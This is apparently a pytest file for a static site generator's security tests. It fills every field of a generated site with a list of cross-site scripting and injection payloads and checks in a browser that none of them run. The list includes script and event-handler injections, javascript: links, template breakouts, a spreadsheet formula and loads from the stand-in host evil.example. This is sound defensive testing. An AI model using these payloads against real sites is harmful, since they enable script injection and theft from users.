"""Text that would act if it could, in every field and every place of a body, opened in a real browser.

Each of the payloads says its number to the page when it runs. Nothing may run, ask a stranger, or come so far that the
page's own policy has to stop it.
"""

import json
import re

import pytest
from archive import Archive
from conftest import served

PAYLOADS = (
    "<script>window.ran(N)</script>",
    "</script><script>window.ran(N)</script>",
    '"><script>window.ran(N)</script>',
    "'><script>window.ran(N)</script>",
    "</title><script>window.ran(N)</script>",
    "</textarea><script>window.ran(N)</script>",
    "</style><script>window.ran(N)</script>",
    "--><script>window.ran(N)</script><!--",
    "]]><script>window.ran(N)</script><![CDATA[",
    "<ScRiPt src=//evil.example/N.js></sCrIpT>",
    "<script/src=https://evil.example/N.js></script>",
    "<img src=x onerror=window.ran(N)>",
    '"><img src=x onerror=window.ran(N)>',
    "<img/src=x/onerror=window.ran(N)//",
    "<svg onload=window.ran(N)>",
    "<svg><script>window.ran(N)</script></svg>",
    "<svg><animate onbegin=window.ran(N) attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran(N)>",
    "<iframe srcdoc='<script>parent.ran(N)</script>'></iframe>",
    "<iframe src=javascript:parent.ran(N)></iframe>",
    "<details open ontoggle=window.ran(N)>",
    "<input autofocus onfocus=window.ran(N)>",
    '" autofocus onfocus=window.ran(N) x="',
    "' onmouseover=window.ran(N) x='",
    "<body onload=window.ran(N)>",
    "<meta http-equiv=refresh content='0;url=javascript:window.ran(N)'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/N.css>",
    "<style>@import 'https://evil.example/N.css';</style>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.ran(N)>\">",
    "<a href=javascript:window.ran(N)>here</a>",
    "&lt;script&gt;window.ran(N)&lt;/script&gt;",
    "&#60;img src=x onerror=window.ran(N)&#62;",
    "\\u003cscript\\u003ewindow.ran(N)\\u003c/script\\u003e",
    "{{ 7*7 }}{% raw %}<script>window.ran(N)</script>",
    "${window.ran(N)}`;window.ran(N);//",
    "';window.ran(N);//",
    '";window.ran(N);//',
    "=HYPERLINK('https://evil.example/N')",
    "<xss xmlns:h='http://www.w3.org/1999/xhtml'><h:script>window.ran(N)</h:script>",
)  # fmt: skip
SOME_PAGES = 40


def text_of(number):
    return f"A{number} " + PAYLOADS[number].replace("N", str(number))


def a_document(number, place):
    """A document all of whose texts are the payload."""
    text = json.dumps(text_of(number))
    lines = [
        *(f"title: {text}", "date: 2017-02-23", "type: report", f"series: {text}", f"case: {text}"),
        *(
            "meeting:",
            "  date: 2017-02-16",
            *(f"  {field}: {text}" for field in "time number city place theme".split()),
        ),
        *("participants:", f"  - {{name: {text}, role: {text}, party: {text}, organisation: {text}}}"),
        *(f"{field}: {text}" for field in "officer signed organisation recipient summary".split()),
        *(f"{field}: [{text}]" for field in "cities organisations themes absent-cities".split()),
        *("attachments:", f"  - {{title: {text}, missing: true}}", "source:", f"  note: {text}"),
        *("corrections:", f"  - {{date: 2018-01-01, note: {text}}}"),
    ]
    plain = text_of(number)
    bodies = {
        "paragraph": f"{plain}\n\n- {plain}\n\n> {plain}\n",
        "heading": f"## {plain}\n\nText.\n",
        "code": f"```\n{plain}\n```\n\n    {plain}\n",
        "cell": f"| {plain.replace('|', '/')} | b |\n|---|---|\n| c | {plain.replace('|', '/')} |\n",
        "link": f"[{plain}](https://example.org/) ![{plain}](picture.png)\n",
        "note": f"Text.[^1]\n\n[^1]: {plain}\n",
    }
    return "---\n" + "\n".join(lines) + "\n---\n\n" + bodies[place]


PLACES = ("paragraph", "heading", "code", "cell", "link", "note")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A site of nothing but payloads; the addresses of its files."""
    first = json.dumps(text_of(0))
    settings = "".join(
        f"{field}: {json.dumps(text_of(5 + n))}\n" for n, field in enumerate("owner contact licence".split())
    )
    files = {
        "content/archive.yml": f"name: {first}\nlanguage: en\nbase-url: https://example.org/\n{settings}",
        "content/index.md": f"---\ntitle: {first}\n---\n\n{text_of(11)}\n",
        "content/documents/2017/picture.png": b"\x89PNG\r\n\x1a\n" + bytes(40),
    }
    for number in range(len(PAYLOADS)):
        text = json.dumps(text_of(number))
        files[f"content/documents/2017/d{number}.md"] = a_document(number, PLACES[number % len(PLACES)])
        files[f"content/people/p{number}.md"] = (
            f"---\nname: {json.dumps('P ' + text_of(number))}\naliases: [{json.dumps('Q ' + text_of(number))}]\n---\n\n{text_of(number)}\n"
        )
        files[f"content/pages/s{number}.md"] = f"---\ntitle: {text}\n---\n\n{text_of(number)}\n"
    archive = Archive(tmp_path_factory.mktemp("hostile"), files)
    outcome = archive.run("build")
    # A body whose text would be lost or that holds an unsafe address is refused; without it the rest is looked at.
    refused = sorted({said.path for said in outcome.errors})
    assert {said.code for said in outcome.errors} <= {"text-lost", "unsafe-address", "explosive"}, outcome.errors
    assert len(refused) < len(PAYLOADS) / 4, refused
    for path in refused:
        archive.write(path, re.sub(r"(?s)(---\n.*?\n---\n).*", r"\1\nText.\n", files[path]))
    again = archive.build() if refused else outcome
    assert again.status == 0, again.err
    return archive


WATCH = """
window.seen = [];
window.ran = number => { window.seen.push('payload ' + number + ' ran'); };
document.addEventListener('securitypolicyviolation', event => window.seen.push('policy: ' + event.violatedDirective + ' ' + event.blockedURI));
"""
LOOK = """() => [
    ...window.seen,
    ...[...document.querySelectorAll('*')].flatMap(one => [...one.attributes].filter(a => a.name.startsWith('on')).map(a => 'handler ' + a.name)),
    ...[...document.querySelectorAll('[href], [src], [action], [data], [formaction]')].flatMap(one =>
        ['href', 'src', 'action', 'data', 'formaction'].map(name => one.getAttribute(name) || '')
        .filter(value => /^\\s*(javascript|data:text|vbscript):?/i.test(value) || value.includes('evil.example'))),
    ...[...document.querySelectorAll('iframe, object, embed, base, xss, animate, math')].map(one => 'element ' + one.localName),
]"""


def pages_of(archive, long):
    """The pages to open: all, or of each kind some, and files of other kinds that a browser shows."""
    site = archive.root / "site"
    found = sorted(
        path.relative_to(site).as_posix()
        for path in site.rglob("*")
        if path.suffix in {".html", ".xml", ".svg", ".json", ".txt"}
    )
    if long:
        return found
    kinds = {}
    for path in found:
        first, *_ = path.split("/")
        kinds.setdefault((first, path.rpartition("/")[2]), []).append(path)
    chosen = [paths[number] for number in (0, -1) for paths in kinds.values() if paths]
    documents = [path for path in found if re.fullmatch(r"documents/2017/d\d+/index.html", path)]
    return list(dict.fromkeys([*chosen[:SOME_PAGES], *documents]))


def test_no_payload_runs_in_a_browser(browser, hostile, request):
    strangers, dialogs, wrong = [], [], []
    pages = pages_of(hostile, request.config.getoption("--long"))
    with served(hostile.root / "site") as address:
        context = browser.new_context()
        context.add_init_script(WATCH)
        page = context.new_page()
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.on(
            "request",
            lambda asked: (
                strangers.append(asked.url) if not asked.url.startswith((address, "data:", "blob:")) else None
            ),
        )
        page.on(
            "console",
            lambda said: (
                wrong.append((page.url, said.text))
                if "Content Security" in said.text or "Refused" in said.text
                else None
            ),
        )
        for path in pages:
            page.goto(address + path.removesuffix("index.html"))
            wrong += [(path, one) for one in page.evaluate(LOOK)]
        for number in range(0, len(PAYLOADS), 1 if request.config.getoption("--long") else 16):
            page.goto(f"{address}search/?q={PAYLOADS[number].replace('#', '%23').replace('&', '%26')}")
            page.wait_for_timeout(100)
            wrong += [("search", one) for one in page.evaluate(LOOK)]
        context.close()
    assert (dialogs, strangers, wrong) == ([], [], [])
    assert len(pages) > 40


def test_what_would_run_would_be_noticed(browser):
    """The watch itself: a page that holds the payloads as they are is full of findings."""
    page = browser.new_page()
    page.add_init_script(WATCH)
    page.route(
        "**/*",
        lambda route: route.fulfill(
            body=f"<!doctype html>{text_of(0)}{text_of(11)}{text_of(30)}", content_type="text/html"
        ),
    )
    page.goto("http://127.0.0.1:9/")
    page.wait_for_function("window.seen.length > 1")
    found = page.evaluate(LOOK)
    page.close()
    assert {"payload 0 ran", "payload 11 ran", "handler onerror", "javascript:window.ran(30)"} <= set(found)
